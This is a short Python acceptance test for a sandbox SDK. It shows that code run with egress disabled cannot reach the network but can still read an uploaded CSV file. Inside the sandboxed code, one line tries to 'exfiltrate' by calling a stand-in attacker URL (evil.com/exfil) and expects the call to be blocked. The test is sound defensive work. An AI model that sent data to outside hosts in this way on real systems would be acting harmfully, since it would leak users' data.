# The product brief's example, verbatim except for the import: our acceptance test.
#
#   export AIRLOCK_URL=http://127.0.0.1:7070     # the daemon, started with --region eu
#   export AIRLOCK_API_KEY=ak_...
#   PYTHONPATH=sdk/python python3 examples/seed_example.py
#
# Expected output:
#   egress blocked: URLError
#   rows: 2
from airlock import Sandbox
with Sandbox(egress=False, region='eu') as sb:
    sb.upload(b'name,age\nAlice,30\nBob,45', '/data/roster.csv')
    out = sb.run_code('''
# Try to exfiltrate — this will fail
import urllib.request
try:
    urllib.request.urlopen('https://evil.com/exfil', timeout=1)
except Exception as e:
    print('egress blocked:', type(e).__name__)
# But local compute still works
import csv
with open('/data/roster.csv') as f:
    rows = list(csv.DictReader(f))
print('rows:', len(rows))
''')
    print(out.stdout)
